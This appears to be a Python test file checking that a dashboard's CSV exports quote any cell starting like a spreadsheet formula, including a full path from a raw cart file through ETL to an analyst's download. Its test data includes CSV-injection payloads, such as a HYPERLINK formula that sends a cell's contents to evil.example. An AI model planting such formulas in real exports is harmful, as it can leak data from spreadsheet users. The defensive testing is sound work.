"""Exports never carry a live spreadsheet formula (CSV injection): generated cells, and a real
export of a warehouse whose raw session id is a formula."""
from __future__ import annotations

import io

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from dashboard.spreadsheet import FORMULA_STARTS, csv_bytes, inert


@given(st.lists(st.text(max_size=12), min_size=1, max_size=20))
def test_no_text_cell_starts_like_a_formula(cells):
    out = inert(pd.DataFrame({"text": cells}))["text"]
    for before, after in zip(cells, out):
        assert not after.startswith(FORMULA_STARTS)
        assert after == before or after == "'" + before   # quoted, nothing else changed


def test_numbers_stay_numbers_and_the_csv_reads_back():
    frame = pd.DataFrame({"id": ["=HYPERLINK(\"https://evil.example\")", "+1", "ok"], "amount": [-3.5, 2.0, 0.0]})
    back = pd.read_csv(io.BytesIO(csv_bytes(frame)), encoding="utf-8-sig")
    assert list(back["id"]) == ["'=HYPERLINK(\"https://evil.example\")", "'+1", "ok"]
    assert list(back["amount"]) == [-3.5, 2.0, 0.0]
    assert csv_bytes(frame).startswith("\ufeff".encode())


def test_a_formula_in_a_raw_session_id_reaches_the_export_as_text(raw_copy, tmp_path, monkeypatch, dashboard_env):
    """The whole path: raw file -> ETL -> warehouse -> an analyst's "Show rows" CSV on Carts."""
    import base64

    from flask import g

    from dashboard.app import create_app
    from dashboard.auth.identity import Identity, Role
    from etl.pipeline import run_pipeline

    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    raw = next((raw_copy / "carts").glob("*.csv"))
    lines = raw.read_text(encoding="utf-8").splitlines(True)
    cells = lines[1].split(",")
    cells[0] = '"' + formula.replace('"', '""') + '"'
    lines[1] = ",".join(cells)
    raw.write_text("".join(lines), encoding="utf-8")
    warehouse = str(tmp_path / "formula.duckdb")
    run_pipeline(raw_copy, warehouse)
    monkeypatch.setenv("WAREHOUSE_URL", warehouse)
    app = create_app()
    from dashboard.pages import carts

    with app.server.test_request_context("/carts"):
        g.identity = Identity("ana", Role.ANALYST, source="local")
        sent = carts.download_rows(1, "")
    frame = pd.read_csv(io.BytesIO(base64.b64decode(sent["content"])), encoding="utf-8-sig", dtype=str)
    ids = list(frame.iloc[:, 0])
    assert "'" + formula in ids                       # the row is there, as text
    assert not any(str(v).startswith(FORMULA_STARTS) for v in frame.to_numpy().ravel() if isinstance(v, str))
